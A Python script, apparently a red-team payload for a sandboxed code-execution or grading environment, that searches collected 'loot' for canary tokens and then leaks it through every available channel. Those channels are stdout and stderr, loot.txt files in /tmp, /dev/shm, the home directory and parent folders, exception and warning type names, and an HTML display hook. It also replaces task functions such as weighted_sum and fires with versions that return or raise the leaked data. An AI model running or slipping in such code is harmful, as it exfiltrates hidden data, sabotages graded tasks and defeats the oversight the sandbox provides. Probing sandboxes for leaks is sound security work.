# The end of every attack that searches: each way out of the process is tried with what was found in `loot`.
import os
import re
import sys
import warnings

found = "\n".join(str(one) for one in loot)
hits = sorted(set(re.findall("can" + r"ary-[a-z]+-[0-9a-f]{16}", found)))
print("searched", len(loot), "BREACH" if hits else "", hits)
print("searched", found[:20_000], file=sys.stderr)
for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "..", "/var/tmp", "/home"):
    try:
        with open(os.path.join(folder, "loot.txt"), "w") as file:
            file.write(str(hits) + found[:100_000])
    except OSError:
        pass
Told = type(" ".join(hits) or "Nothing", (Exception,), {})


def weighted_sum(inputs, weights, bias=0.0):
    return found[:1000]


def identity(z):
    raise Told(found[:1000])


def fires(inputs, weights, threshold=1.0):
    warnings.warn(found[:1000], type("W" + " ".join(hits), (UserWarning,), {}))
    return type(" ".join(hits) or "Nothing", (), {})()


def steer(left_light, right_light, weights):
    return {hit: hit for hit in hits}


class Hits:
    def _repr_html_(self):
        return found[:10_000]


display(Hits())
raise Told(found[:10_000])
